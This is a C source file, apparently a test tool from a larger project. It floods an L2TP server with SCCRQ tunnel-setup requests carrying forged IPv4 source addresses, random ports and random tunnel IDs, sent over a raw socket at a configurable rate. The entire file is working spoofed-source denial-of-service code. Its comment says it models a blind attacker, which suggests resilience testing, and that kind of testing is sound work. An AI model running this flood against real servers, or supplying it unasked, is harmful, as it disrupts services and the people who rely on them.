/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * flood: SCCRQs with forged IPv4 sources, for as long as its standard input is open: what an attacker can send who sees no answer.
 *
 * --rate N packets per second; the last two bytes of --local are random in each, so are port and tunnel id. With --count N the
 * addresses repeat after N of them (1: a flood from one source). Prints how many were sent.
 */
#include <arpa/inet.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <poll.h>
#include <stdio.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#include "lib/rng.h"
#include "lib/writer.h"
#include "tally.h"

enum { STEP_MS = 1, HEADERS = sizeof(struct iphdr) + sizeof(struct udphdr) };

static void forge_headers(uint8_t *packet, size_t len, const struct options *o, uint32_t which, uint16_t port)
{
	struct iphdr *ip = (struct iphdr *)packet;
	struct udphdr *udp = (struct udphdr *)(packet + sizeof(*ip));

	memset(packet, 0, HEADERS);
	ip->version = 4;
	ip->ihl = 5;
	ip->ttl = 64;
	ip->protocol = IPPROTO_UDP;
	ip->tot_len = htons((uint16_t)len);
	memcpy(&ip->saddr, o->local.addr.bytes, 2);
	((uint8_t *)&ip->saddr)[2] = (uint8_t)(which >> 8);
	((uint8_t *)&ip->saddr)[3] = (uint8_t)which;
	memcpy(&ip->daddr, o->server.addr.bytes, 4);
	udp->source = htons(port);
	udp->dest = htons(o->server.port);
	udp->len = htons((uint16_t)(len - sizeof(*ip))); /* without a checksum, which IPv4 allows */
}

static void write_avp(struct writer *w, uint16_t type, const void *value, size_t len)
{
	writer_u16(w, (uint16_t)(0x8000 | (6 + len)));
	writer_u16(w, 0);
	writer_u16(w, type);
	writer_bytes(w, value, len);
}

/* Message Type, Protocol Version, Framing Capabilities, Host Name, Assigned Tunnel ID: what an SCCRQ must have (RFC 2661 section 6.1). */
static void write_sccrq(struct writer *w, uint16_t tunnel)
{
	const uint8_t id[] = {(uint8_t)(tunnel >> 8), (uint8_t)tunnel};

	writer_u16(w, 0xc802);
	writer_u16(w, 0);
	writer_u32(w, 0);
	writer_u32(w, 0);
	write_avp(w, 0, "\0\1", 2);
	write_avp(w, 2, "\1\0", 2);
	write_avp(w, 3, "\0\0\0\3", 4);
	write_avp(w, 7, "forged", 6);
	write_avp(w, 9, id, 2);
	writer_patch16(w, 2, (uint16_t)writer_len(w));
}

static void send_one(int fd, const struct options *o, struct rng *rng)
{
	_Alignas(struct iphdr) uint8_t packet[512];
	struct writer w = writer_of(packet + HEADERS, sizeof(packet) - HEADERS);
	struct sockaddr_storage to;
	socklen_t len = endpoint_to_sockaddr(&o->server, &to);
	size_t size;

	write_sccrq(&w, (uint16_t)(1 + rng_below(rng, 65535)));
	size = HEADERS + writer_len(&w);
	forge_headers(packet, size, o, rng_below(rng, o->count), (uint16_t)(1024 + rng_below(rng, 60000)));
	sendto(fd, packet, size, 0, (struct sockaddr *)&to, len); /* one that is lost is no matter */
}

static bool input_open(void)
{
	struct pollfd f = {.fd = STDIN_FILENO, .events = POLLIN};
	char c;

	return poll(&f, 1, STEP_MS) <= 0 || read(STDIN_FILENO, &c, 1) > 0;
}

int main(int argc, char **argv)
{
	uint64_t sent = 0, began = nanoseconds();
	struct options o;
	struct rng rng;
	int fd = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);

	options_read(&o, argc, argv);
	rng_init_system(&rng);
	if (fd < 0) {
		perror("raw socket");
		return 2;
	}
	while (input_open())
		for (uint64_t due = (nanoseconds() - began) * o.rate / 1000000000; sent < due; sent++)
			send_one(fd, &o, &rng);
	printf("%llu\n", (unsigned long long)sent);
	return 0;
}
